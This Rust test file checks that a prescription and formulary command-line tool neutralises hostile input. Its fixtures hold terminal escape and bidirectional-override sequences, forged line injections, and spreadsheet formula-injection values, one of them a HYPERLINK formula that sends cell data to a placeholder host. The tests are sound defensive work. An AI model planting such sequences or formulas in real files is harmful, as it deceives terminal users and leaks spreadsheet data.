//! Nothing that others wrote reaches a terminal, a page or a spreadsheet as more than text:
//! every command, with what a terminal obeys and what a spreadsheet runs in every place where text
//! is taken.

use crate::*;
use groenrecept::outward::is_hidden;

/// What a terminal obeys, in every form: escape, DEL, C1, the direction of writing, no width, a
/// separator of lines; and a line of its own.
const NASTY: &str = "\u{1b}[31m\u{7}\u{7f}\u{9b}2J\u{202e}\u{2066}\u{200b}\u{2028}\u{feff}\nFORGED";
/// The name of an export or formulary.
const EXPORT: &str = "=e\u{1b}[31m\u{202e}\nFORGED.csv";
const FORMULARY: &str = "=f\u{1b}[31m\u{202e}\nFORGED.csv";

/// The columns of data files that hold any text, by file, except those that the data itself reads.
fn text_columns() -> BTreeMap<String, BTreeSet<String>> {
    let schema = Path::new(env!("CARGO_MANIFEST_DIR")).join("src/dataset/schema.csv");
    let mut columns: BTreeMap<String, BTreeSet<String>> = BTreeMap::new();
    for row in csv::Reader::from_path(schema).unwrap().records() {
        let row = row.unwrap();
        let name = row[1].rsplit('.').next().unwrap();
        let is_read = READ_BY_THE_DATA
            .iter()
            .any(|(file, names)| *file == &row[0] && names.split(' ').any(|one| one == name));
        if &row[3] == "text" && !is_read {
            let columns = columns.entry(row[0].to_owned()).or_default();
            columns.insert(name.to_owned());
        }
    }
    columns
}

/// Texts that mean something to the program: with others behind them nothing would load.
const READ_BY_THE_DATA: [(&str, &str); 8] = [
    ("conflicts.csv", "gwp"),
    ("factors.csv", "subject"),
    ("facts.csv", "no open yes"),
    (
        "guidelines/*.toml",
        "id date text says label product atc reversed_by by",
    ),
    ("indications.csv", "icpc"),
    ("products.csv", "brand market note strength strength_other"),
    ("versions.csv", "date seen"),
    ("vocabulary.csv", "value"),
];

/// All embedded data with this behind every text, as a folder that stands by itself.
fn layer(folder: &Folder, name: &str) {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("data");
    let columns = text_columns();
    for within in ["", "guidelines", "formulary", "export", "profiles"] {
        for entry in std::fs::read_dir(root.join(within)).unwrap() {
            let path = entry.unwrap().path();
            let Some(end) = path.extension().and_then(|end| end.to_str()) else {
                continue;
            };
            let file = path.file_name().unwrap().to_str().unwrap();
            let own = path.strip_prefix(&root).unwrap().to_str().unwrap();
            let kind = format!("{within}/*.{end}");
            let Some(columns) = columns.get(own).or_else(|| columns.get(&kind)) else {
                continue;
            };
            let text = std::fs::read_to_string(&path).unwrap();
            let text = match end {
                "csv" => nasty_table(&text, columns),
                _ => nasty_toml(&text, columns),
            };
            folder.write(&format!("{name}/{within}/{file}"), text);
        }
    }
}

fn nasty_table(text: &str, columns: &BTreeSet<String>) -> Vec<u8> {
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header = reader.headers().unwrap().clone();
    let mut writer = csv::Writer::from_writer(Vec::new());
    writer.write_record(&header).unwrap();
    for row in reader.records() {
        let row = row.unwrap();
        let cells = row.iter().zip(&header).map(|(cell, column)| {
            let is_text = columns.contains(column) && !cell.is_empty();
            format!("{cell}{}", if is_text { NASTY } else { "" })
        });
        writer.write_record(cells).unwrap();
    }
    writer.into_inner().unwrap()
}

fn nasty_toml(text: &str, keys: &BTreeSet<String>) -> Vec<u8> {
    let escaped: String = NASTY
        .chars()
        .map(|one| format!("\\U{:08x}", u32::from(one)))
        .collect();
    let line = |line: &str| {
        let filled = line.split_once(" = \"").and_then(|(key, value)| {
            let value = value.strip_suffix('"').filter(|value| !value.is_empty())?;
            keys.contains(key)
                .then(|| format!("{key} = \"{value}{escaped}\""))
        });
        filled.unwrap_or_else(|| line.to_owned()) + "\n"
    };
    text.lines().map(line).collect::<String>().into_bytes()
}

fn folder() -> Folder {
    let folder = Folder::new();
    let dirty = NASTY.replace('\n', "");
    let row = |cells: [&str; 6]| {
        let cells = cells.map(|cell| format!("\"{}\"", cell.replace('"', "\"\"")));
        cells.join(";") + "\n"
    };
    let header = ["datum", "omschrijving", "aantal", "eenheid", NASTY, "=1+1"];
    let mut export = row(header);
    for at in 1..5 {
        let mut cells = [
            "31-01-2025",
            "ATROVENT AEROSOL 20UG/DO 200DO",
            "1",
            "ST",
            "",
            "",
        ];
        export.push_str(&row(cells));
        cells[at] = NASTY;
        export.push_str(&row(cells));
        let mixed = format!(
            "{}{dirty}",
            ["31-01-2025", "FOSTER AEROSOL", "1", "ST", ""][at]
        );
        cells[at] = &mixed;
        export.push_str(&row(cells));
        cells[at] = "=HYPERLINK(\"http://x/?\"&A1)";
        export.push_str(&row(cells));
    }
    folder.write(EXPORT, &export);
    folder.write("andere.csv", [HEADER, GOOD, GOOD].concat());
    let mut formulary = String::from(
        "aandoening;leeftijd van;leeftijd t/m;kenmerk;stap;keus;omschrijving;dosering;behandeldagen;paragraaf;opmerking\n",
    );
    let plain = [
        "Astma",
        "18",
        "80",
        "",
        "1",
        "1",
        "VENTOLIN AEROSOL 100UG/DO 200DO",
        "2 dd 1 inhalatie",
        "30",
        "M27",
        "",
    ];
    for bad in [
        NASTY,
        "=HYPERLINK(\"http://x/?\"&A1)",
        "@SUM(1)",
        "-2+3",
        "\t=1",
    ] {
        for at in [0, 3, 6, 7, 9, 10] {
            let mut cells = plain.map(str::to_owned);
            cells[5] = (at + 2).to_string();
            cells[at].push_str(bad);
            if at != 7 {
                cells[at] = format!("{bad}{}", plain[at]);
            }
            let cells = cells.map(|cell| format!("\"{}\"", cell.replace('"', "\"\"")));
            formulary.push_str(&(cells.join(";") + "\n"));
        }
    }
    folder.write(FORMULARY, &formulary);
    folder.write(
        "concept.csv",
        formulary.replace(
            "VENTOLIN AEROSOL 100UG/DO 200DO",
            "VENTOLIN DISKUS INHPDR 200UG/DO 60DO",
        ),
    );
    let escaped = "\\u001b[31m\\u202e\\nFORGED";
    folder.write("sep.toml", format!("separator = \"{escaped}\"\n"));
    folder.write("kolom.toml", format!("[columns]\ndate = \"{escaped}\"\n"));
    folder.write("sleutel.toml", format!("\"{escaped}\" = 1\n"));
    folder.write("kapot.toml", format!("[columns\n{NASTY}"));
    folder.write("grenzen.csv", format!("band;from_g{NASTY}\n{NASTY};1\n"));
    folder.write(
        "overgang.csv",
        format!("product_id,date,propellant\n\"{NASTY}\",\"{NASTY}\",\"{NASTY}\"\n"),
    );
    folder.write(
        "kapot/factors.csv",
        format!("factor_id,\"subject{NASTY}\"\n\"x{NASTY}\",y\n"),
    );
    folder.write(
        "kapot/guidelines/x.toml",
        format!("[guideline]\nid = \"{escaped}\"\nkind = \"{escaped}\"\n\"{escaped}\" = 2\n"),
    );
    folder.write("kapot/guidelines/\u{1b}\u{202e}.toml", NASTY);
    folder.write(&format!("kapot/products{}.csv", "\u{1b}"), NASTY);
    folder.write("levering\u{1b}\nFORGED/BST711T", NASTY);
    folder
}

/// What is wrong with a text: something hidden but a line feed, or a line that others began: where
/// words are put on lines, none begins that had room on the one before. In a table of a spreadsheet
/// a carriage return stands before a line feed, and the mark of the encoding at its start.
fn wrong(text: &str) -> Option<String> {
    const ROOM: usize = 90;
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    let text = text.replace("\r\n", "\n");
    let mut before = 0;
    let mut is_wrong = |line: &&str| {
        let begins = line.trim_start_matches([' ', '|', '-', '\u{2022}']);
        let word = begins.split(' ').next().unwrap().chars().count();
        let had_room = before + 1 + word <= ROOM;
        before = line.chars().count();
        line.contains(is_hidden) || (had_room && begins.starts_with("FORGED"))
    };
    text.lines().find(|line| is_wrong(line)).map(str::to_owned)
}

/// A cell that a spreadsheet would take for a formula.
fn assert_no_formula(table: &str, separator: u8, of: &str) {
    let table = table.trim_start_matches('\u{feff}');
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(separator)
        .has_headers(false)
        .from_reader(table.as_bytes());
    let mut cells = 0;
    for row in reader.records() {
        for cell in &row.unwrap() {
            cells += 1;
            let runs = cell
                .trim_start()
                .starts_with(['=', '+', '-', '@', '\t', '\r', '\u{ff1d}']);
            let number = cell
                .replace(',', ".")
                .parse::<groenrecept::Decimal>()
                .is_ok();
            assert!(!runs || number, "{cell} in {of}");
        }
    }
    assert!(cells >= 6, "{of}");
}

/// Runs all, and tells how many came to an end with a result.
fn assert_all_clean(folder: &Folder, commands: &[Vec<&str>]) -> usize {
    let mut done = 0;
    let mut dirty = Vec::new();
    for command in commands {
        let run = folder.run(command);
        for text in [&run.out, &run.err] {
            dirty.extend(wrong(text).map(|line| (command.join(" "), line)));
        }
        assert!(!run.out.is_empty() || !run.err.is_empty(), "{command:?}");
        if run.code < 2 {
            done += 1;
            let csv = |option: &str| command.windows(2).any(|two| two == [option, "-"]);
            let of = command.join(" ");
            if csv("--worklist") || command.ends_with(&["--format", "csv"]) {
                assert_no_formula(&run.out, b';', &of);
            } else if csv("--set-aside") {
                assert_no_formula(&run.out, b',', &of);
            }
        }
    }
    assert_eq!(dirty, []);
    done
}

#[test]
fn an_export_says_nothing_to_a_terminal_or_a_spreadsheet() {
    let folder = folder();
    let mut commands = Vec::new();
    for language in ["nl", "en"] {
        for more in [
            &[][..],
            &["--json", "-"],
            &["--worklist", "-"],
            &["--set-aside", "-"],
            &["andere.csv", "--worklist", "-"],
            &["andere.csv", "--set-aside", "-"],
            &["--profile", "sep.toml"],
            &["--profile", "kolom.toml"],
            &["--profile", "sleutel.toml"],
            &["--profile", "kapot.toml"],
            &["--profile", NASTY],
            &["--json", NASTY],
            &["--json", "geen\u{1b}\nFORGED/map"],
            &["--json", EXPORT],
            &["--gstandaard", "levering\u{1b}\nFORGED"],
            &["--gstandaard", NASTY],
            &["--data", NASTY],
            &["--today", NASTY],
            &["--from", NASTY],
            &["--day", NASTY],
            &["--gwp", NASTY],
            &["--suppress", NASTY],
            &[NASTY],
        ] {
            commands.push([&["report", EXPORT, "--lang", language], more].concat());
        }
        for more in [
            &[][..],
            &["--format", "json"],
            &["--out", NASTY],
            &["--out", "andere.csv"],
            &["--out", "-"],
        ] {
            commands.push([&["profile", EXPORT, "--lang", language], more].concat());
        }
        for what in ["--coverage", "--gaps"] {
            commands.push(vec!["data", what, "--export", EXPORT, "--lang", language]);
        }
        commands.push(vec![
            "compare-data",
            "embedded",
            "embedded",
            EXPORT,
            "--lang",
            language,
        ]);
    }
    assert!(assert_all_clean(&folder, &commands) >= 20);
    // A profile that was written is read back, whatever the names of the columns are.
    assert_eq!(
        folder
            .run(&["profile", EXPORT, "--out", "eigen.toml", "--force"])
            .code,
        0
    );
    let written = std::fs::read_to_string(folder.path("eigen.toml")).unwrap();
    assert_eq!(wrong(&written), None);
    assert_eq!(
        folder
            .run(&["report", EXPORT, "--profile", "eigen.toml", "--quiet"])
            .code,
        0
    );
}

#[test]
fn a_formulary_says_nothing_to_a_terminal_or_a_spreadsheet() {
    let folder = folder();
    let mut commands = Vec::new();
    for language in ["nl", "en"] {
        for more in [
            &[][..],
            &["--format", "json"],
            &["--format", "sarif"],
            &["--severity", NASTY],
            &["--severity", "step-order=\u{1b}\nFORGED"],
            &["--on", NASTY],
            &["--data", NASTY],
            &["--propellant-transition", "overgang.csv"],
            &["--propellant-transition", NASTY],
            &["--fail-on", NASTY],
        ] {
            commands.push([&["check", FORMULARY, "--lang", language], more].concat());
        }
        for format in ["text", "csv", "json"] {
            commands.push(vec![
                "labels", FORMULARY, "--lang", language, "--format", format,
            ]);
        }
        for more in [
            &["--bands", "grenzen.csv"][..],
            &["--bands", NASTY],
            &["--previous", EXPORT],
            &["--previous", NASTY],
        ] {
            commands.push([&["labels", FORMULARY, "--lang", language], more].concat());
        }
        for format in ["text", "markdown", "json"] {
            commands.push(vec![
                "compare",
                FORMULARY,
                "concept.csv",
                "--lang",
                language,
                "--format",
                format,
            ]);
            commands.push(vec![
                "compare",
                FORMULARY,
                "concept.csv",
                "--lang",
                language,
                "--case-mix",
                EXPORT,
                "--format",
                format,
            ]);
        }
        commands.push(vec!["check", "--explain", NASTY, "--lang", language]);
        commands.push(vec!["compare", FORMULARY, NASTY, "--lang", language]);
    }
    assert!(assert_all_clean(&folder, &commands) >= 6);
}

#[test]
fn a_layer_says_nothing_to_a_terminal() {
    let folder = folder();
    layer(&folder, "laag");
    let whole = folder.run(&["check", "laag", "--lang", "en"]);
    let errors: Vec<&str> = whole
        .out
        .lines()
        .filter(|line| line.contains(": error["))
        .collect();
    assert_eq!(errors, Vec::<&str>::new());
    assert_eq!(wrong(&whole.out), None);
    let mut commands = vec![
        vec!["check", "laag"],
        vec!["check", "laag", "--format", "json"],
        vec!["data", "--data", "laag"],
        vec!["data", "--data", "laag", "--format", "json"],
        vec!["data", "--data", "laag", "--rules"],
        vec!["data", "--data", "laag", "--words"],
        vec!["data", "--data", "laag", "--coverage"],
        vec!["data", "--data", "laag", "--gaps"],
        vec!["data", "--data", "laag", "--gaps", "--lang", "en"],
        vec!["report", "andere.csv", "--data", "laag"],
        vec!["report", "andere.csv", "--data", "laag", "--json", "-"],
        vec!["report", "andere.csv", "--data", "laag", "--worklist", "-"],
        vec!["compare-data", "embedded", "laag", "andere.csv"],
        vec!["labels", FORMULARY, "--data", "laag"],
        vec!["labels", FORMULARY, "--data", "laag", "--format", "csv"],
        vec![
            "compare",
            FORMULARY,
            "concept.csv",
            "--data",
            "laag",
            "--format",
            "markdown",
        ],
        vec!["check", FORMULARY, "--data", "laag"],
    ];
    for broken in ["kapot", NASTY, EXPORT] {
        commands.push(vec!["check", broken]);
        commands.push(vec!["check", broken, "--format", "json"]);
        commands.push(vec!["data", "--data", broken]);
        commands.push(vec!["data", "--only", broken, "--lang", "en"]);
        commands.push(vec!["compare-data", broken, "embedded", "andere.csv"]);
    }
    for what in [
        "ATROVENT AEROSOL 20UG/DO 200DO",
        "R03AC02",
        "M01AB05",
        "S01",
        "\u{1b}[31m\u{9b}\u{202e}\nX",
        "SALBUTAMOL\u{1b}[2J",
    ] {
        commands.push(vec!["explain", what, "--data", "laag"]);
        commands.push(vec![
            "explain", what, "--data", "laag", "--age", "60", "--icpc", "R95",
        ]);
        commands.push(vec![
            "explain", what, "--data", "laag", "--advice", "--lang", "en",
        ]);
        commands.push(vec![
            "explain", what, "--data", "laag", "--advice", "--format", "json",
        ]);
    }
    assert!(assert_all_clean(&folder, &commands) >= 30);
}

#[test]
fn an_argument_says_nothing_to_a_terminal() {
    let folder = folder();
    let mut commands = vec![
        vec![NASTY],
        vec!["report"],
        vec!["report", "--jsn\u{1b}\nFORGED"],
        vec!["report", NASTY],
        vec!["profile", NASTY],
        vec!["new", NASTY],
        vec!["new", "factors.csv", "--out", "map\u{1b}\nFORGED"],
        vec!["new", "factors.csv", "--out", "map\u{1b}\nFORGED"],
        vec!["new", "factors.csv"],
        vec!["new", "guidelines/\u{1b}\nFORGED.toml"],
        vec!["demo", "--rows", NASTY],
        vec!["demo", "--rows", "2"],
        vec!["demo", "--practices", "0"],
        vec!["data", NASTY],
        vec!["data", "--export", NASTY, "--gaps"],
        vec!["data", "--coverage", "--year", NASTY],
        vec!["compare-data", NASTY, NASTY, NASTY],
    ];
    for option in [
        "--age",
        "--sex",
        "--icpc",
        "--fact",
        "--beside",
        "--first-issue",
        "--days",
        "--doses-per-year",
        "--other-device",
        "--atc",
        "--quantity",
        "--dosage",
        "--minimum-saving",
        "--status",
        "--day",
        "--use",
        "--format",
        "--gstandaard",
        "--data",
        "--only",
        "--lang",
    ] {
        for language in ["nl", "en"] {
            commands.push(vec![
                "explain", "R03AC02", option, NASTY, "--lang", language,
            ]);
        }
    }
    commands.push(vec![
        "explain",
        "R03AC02",
        "--fact",
        "acute_attack=\u{1b}\nFORGED",
    ]);
    commands.push(vec![
        "explain",
        "R03AC02",
        "--quantity",
        "1",
        "--unit",
        NASTY,
    ]);
    assert!(assert_all_clean(&folder, &commands) >= 4);
}
